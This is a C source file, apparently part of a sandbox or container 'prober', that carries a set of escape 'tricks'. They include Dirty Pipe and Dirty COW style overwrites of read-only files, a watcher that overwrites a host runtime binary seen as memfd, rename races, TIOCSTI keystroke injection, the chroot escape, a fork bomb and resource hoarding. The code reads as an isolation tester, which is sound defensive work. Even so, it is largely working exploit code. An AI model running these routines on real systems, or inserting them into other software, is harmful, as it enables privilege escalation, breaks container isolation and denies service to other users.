/* Ways out that have worked somewhere, each as a mode of the prober. They leave nothing changed where they
 * succeed: what they overwrite they put back. */
#include "prober.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define CGROUP_MAGIC 0x27e0eb
#define CGROUP2_MAGIC 0x63677270
#define RACE_MS 300
#define WATCH_MS 90000

static int64_t now_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000LL + now.tv_nsec / 1000000;
}

/* --- files that can only be read --- */

/* After the first byte of a page was spliced into a pipe that was full before, some kernels took the next
 * write for one to that page. */
static bool write_by_pipe(int file, char byte)
{
    int ends[2];
    char filler[4096] = {0};
    off_t start = 0;
    if (pipe2(ends, O_NONBLOCK | O_CLOEXEC) < 0)
        return false;
    while (write(ends[1], filler, sizeof filler) > 0)
        continue;
    while (read(ends[0], filler, sizeof filler) > 0)
        continue;
    bool done = splice(file, &start, ends[1], NULL, 1, 0) == 1 && write(ends[1], &byte, 1) == 1;
    close(ends[0]);
    close(ends[1]);
    return done;
}

struct mapped {
    int file;
    char *page;
    volatile bool done;
};

static void *drop_page(void *context)
{
    struct mapped *m = context;
    while (!m->done)
        (void)madvise(m->page, 4096, MADV_DONTNEED);
    return NULL;
}

/* A private page, written through /proc/self/mem while it is thrown away: some kernels wrote the file's. */
static bool write_by_memory(int file, char byte)
{
    struct mapped m = {.file = file, .page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0)};
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    pthread_t thread;
    if (m.page == MAP_FAILED || memory < 0 || pthread_create(&thread, NULL, drop_page, &m))
        return false;
    bool done = false;
    for (int64_t end = now_ms() + RACE_MS; now_ms() < end;)
        done |= pwrite(memory, &byte, 1, (off_t)(uintptr_t)(m.page + 1)) == 1;
    m.done = true;
    pthread_join(thread, NULL);
    munmap(m.page, 4096);
    close(memory);
    return done;
}

/* overwrite pipe|memory FILE: its second byte. */
static int overwrite(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    bool (*overwrite_byte)(int, char) = argv[0][0] == 'p' ? write_by_pipe : write_by_memory;
    char before, after;
    int file = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (file < 0 || pread(file, &before, 1, 1) != 1)
        return say("overwrite", -1);
    if (!overwrite_byte(file, (char)(before ^ 1)))
        return say("write", -1);
    if (pread(file, &after, 1, 1) != 1 || after == before) {
        printf("overwrite: unchanged\n");
        return 0;
    }
    overwrite_byte(file, before);
    printf("ESCAPED\n");
    return 1;
}

/* --- races --- */

/* swap A B SECONDS: which is which changes all the time. */
static int swap(int argc, char **argv)
{
    long count = 0;
    if (argc != 3)
        return 2;
    for (int64_t end = now_ms() + 1000 * atol(argv[2]); now_ms() < end; count++)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) < 0)
            return say("swap", -1);
    return say("swap", count);
}

static bool is_group(int folder, const char *name)
{
    struct statfs fs;
    int fd = openat(folder, name, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC);
    bool group =
        fd >= 0 && fstatfs(fd, &fs) == 0 && (fs.f_type == CGROUP_MAGIC || fs.f_type == CGROUP2_MAGIC);
    close(fd);
    return group;
}

/* What a process just born still has of the one that starts it: its program, its root, its descriptors. */
static bool reached_through(int process)
{
    char exe[256] = "";
    struct stat own, theirs;
    bool reached = readlinkat(process, "exe", exe, sizeof exe - 1) > 0 &&
                   (strstr(exe, "memfd:") || strstr(exe, "sandbox") || strstr(exe, "guest"));
    reached |= stat("/", &own) == 0 && fstatat(process, "root/", &theirs, 0) == 0 &&
               (own.st_dev != theirs.st_dev || own.st_ino != theirs.st_ino);
    int fds = openat(process, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (char name[4] = "0"; fds >= 0 && name[0] <= '9'; name[0]++)
        reached |= is_group(fds, name);
    close(fds);
    return reached;
}

/* Until somebody makes FILE. */
static bool goes_on(const char *file, int64_t latest)
{
    return access(file, F_OK) < 0 && now_ms() < latest;
}

/* newborn FILE: looks into every process that the server starts meanwhile, as early as can be. */
static int newborn(int argc, char **argv)
{
    static bool seen[1 << 22];
    long looked = 0, closed = 0, reached = 0;
    DIR *proc = opendir("/proc");
    if (argc != 1 || !proc)
        return 2;
    for (int64_t latest = now_ms() + WATCH_MS; goes_on(argv[0], latest); rewinddir(proc)) {
        for (struct dirent *entry; (entry = readdir(proc));) {
            const long pid = atol(entry->d_name);
            if (pid <= 1 || pid == getpid() || (size_t)pid >= ARRAY_LEN(seen) || seen[pid])
                continue;
            int process = openat(dirfd(proc), entry->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC);
            char exe[2];
            if (process >= 0 && readlinkat(process, "exe", exe, sizeof exe) < 0 && errno == EACCES)
                closed++; /* not yet what it will be: look again */
            else
                seen[pid] = true;
            looked++;
            if (process >= 0 && reached_through(process))
                reached++;
            close(process);
        }
    }
    printf("newborn: %ld looks, %ld of them at what was closed\n%s", looked, closed,
           reached ? "ESCAPED\n" : "");
    return reached > 0;
}

/* While it runs it is busy, so it is stopped, opened, ended, and then written. */
static bool overwrite_program(int process, pid_t pid)
{
    char path[32], byte;
    int program = openat(process, "exe", O_RDONLY | O_CLOEXEC);
    kill(pid, SIGSTOP);
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    if (program < 0 || pread(program, &byte, 1, 0) != 1)
        return false;
    bool written = false;
    for (int tries = 0; tries < 20; tries++) {
        int again = open(path, O_WRONLY | O_CLOEXEC), cut = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        written |= cut >= 0 || (again >= 0 && pwrite(again, &byte, 1, 0) == 1);
        close(again);
        close(cut);
        kill(pid, SIGKILL);
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
    close(program);
    return written;
}

/* programs FILE SEEN: the server's own, if anybody runs it inside (as /proc/self/exe, or a script that names
 * this as its interpreter), is the way out if it can be written. What is written is what is there. Makes SEEN
 * when it has seen one. */
static int programs(int argc, char **argv)
{
    /* What runs for a moment only is seen from another processor, if there is one. */
    const bool alone = sysconf(_SC_NPROCESSORS_ONLN) == 1;
    long seen = 0, written = 0;
    DIR *proc = opendir("/proc");
    if (argc != 2 || !proc)
        return 2;
    if (alone)
        close(open(argv[1], O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
    for (int64_t latest = now_ms() + WATCH_MS; goes_on(argv[0], latest); rewinddir(proc)) {
        for (struct dirent *entry; (entry = readdir(proc));) {
            char exe[256] = "";
            const long pid = atol(entry->d_name);
            int process = pid > 1 ? openat(dirfd(proc), entry->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC) : -1;
            if (process >= 0 && readlinkat(process, "exe", exe, sizeof exe - 1) > 0 &&
                strstr(exe, "memfd:")) {
                seen++;
                close(open(argv[1], O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
                written += overwrite_program(process, (pid_t)pid);
            }
            close(process);
        }
    }
    const char *seen_by = alone ? "by one processor " : "";
    printf("programs: %s%ld seen, %ld written\n%s", seen_by, seen, written, written ? "ESCAPED\n" : "");
    return written > 0;
}

/* --- sockets and terminals --- */

/* sockopt LEVEL OPTION: on a socket of the internet, with room for any structure. */
static int socket_option(int argc, char **argv)
{
    static char value[4096];
    if (argc != 2)
        return 2;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    return say("sockopt", setsockopt(fd, (int)strtol(argv[0], NULL, 0), (int)strtol(argv[1], NULL, 0), value,
                                     sizeof value));
}

/* terminal REQUEST: an ioctl on a terminal of our own; TIOCSTI pushes a byte into its input, as a program
 * that outlives `su` would. */
static int terminal_ioctl(int argc, char **argv)
{
    const unsigned long request = argc > 0 ? strtoul(argv[0], NULL, 0) : TIOCSTI;
    int line[16] = {'x', 21 /* N_GSM0710 */};
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || unlockpt(master) < 0)
        return say("ptmx", -1);
    int terminal = open(ptsname(master), O_RDWR | O_CLOEXEC);
    if (terminal < 0)
        return say("pts", -1);
    return say("terminal", syscall(SYS_ioctl, terminal, request, line));
}

/* --- the root --- */

/* The classic way out of chroot(2): keep a descriptor of a folder above the new root, then climb. */
static int chroot_escape(int argc, char **argv)
{
    int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    (void)mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") < 0 || fchdir(above) < 0)
        return say("chroot", -1);
    for (int i = 0; i < 64; i++)
        (void)!chdir("..");
    if (chroot(".") < 0)
        return say("chroot again", -1);
    return say("open", open(argc > 0 ? argv[0] : "/", O_RDONLY | O_CLOEXEC));
}

/* --- hoarding --- */

/* Children until no more can be made; they stay, stopped or sleeping, until somebody kills them. */
static int fork_all(int argc, char **argv)
{
    long made = 0;
    for (pid_t pid; made < 100000 && (pid = fork()) >= 0; made++)
        if (pid == 0)
            for (;;)
                (void)(argc > 0 ? raise(SIGSTOP) : pause());
    return say("made", made) + say("fork", -1);
}

static long take_inotify(long i)
{
    return inotify_init1(IN_CLOEXEC);
}

/* Each counts as a pending signal of its user. */
static long take_timer(long i)
{
    timer_t timer;
    struct sigevent none = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGALRM};
    return timer_create(CLOCK_MONOTONIC, &none, &timer);
}

static long take_queue(long i)
{
    char name[32];
    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    snprintf(name, sizeof name, "/hoard-%d-%ld", (int)getpid(), i);
    return mq_open(name, O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attr);
}

static long take_terminal(long i)
{
    return open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
}

static long take_aio(long i)
{
    unsigned long context = 0;
    return syscall(SYS_io_setup, 1024, &context);
}

static const struct {
    const char *name;
    long (*take)(long i);
} goods[] = {
    {"inotify", take_inotify},    {"timers", take_timer}, {"queues", take_queue},
    {"terminals", take_terminal}, {"aio", take_aio},
};

/* hoard GOODS MOST [hold]: of what a user or the machine has only so many of, as much as can be had. Each
 * process may have but so many descriptors, so there are several. */
static int hoard(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    size_t g = 0;
    while (g < ARRAY_LEN(goods) && strcmp(goods[g].name, argv[0]))
        g++;
    if (g == ARRAY_LEN(goods))
        return 2;
    long most = atol(argv[1]), got = 0;
    while (got < most && goods[g].take(got) >= 0)
        got++;
    printf("hoard: %ld %s\n", got, got == most ? "all" : "some");
    fflush(stdout);
    if (argc > 2)
        for (;;)
            (void)pause();
    return 0;
}

/* One folder in another, DEPTH times, each with a file of a name that is hard to print. */
static int deep_tree(int argc, char **argv)
{
    long depth = argc > 0 ? atol(argv[0]) : 0, made = 0;
    char name[256];
    memset(name, '\n', sizeof name - 1);
    name[255] = '\0';
    for (; made < depth && mkdir("d", 0700) == 0 && chdir("d") == 0; made++) {
        int fd = open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0000);
        if (fd >= 0)
            close(fd);
    }
    return say("depth", made);
}

const struct mode tricks[] = {
    {"overwrite", overwrite},
    {"swap", swap},
    {"programs", programs},
    {"newborn", newborn},
    {"sockopt", socket_option},
    {"terminal", terminal_ioctl},
    {"chroot-escape", chroot_escape},
    {"fork-all", fork_all},
    {"hoard", hoard},
    {"deep-tree", deep_tree},
};
const size_t trick_count = ARRAY_LEN(tricks);
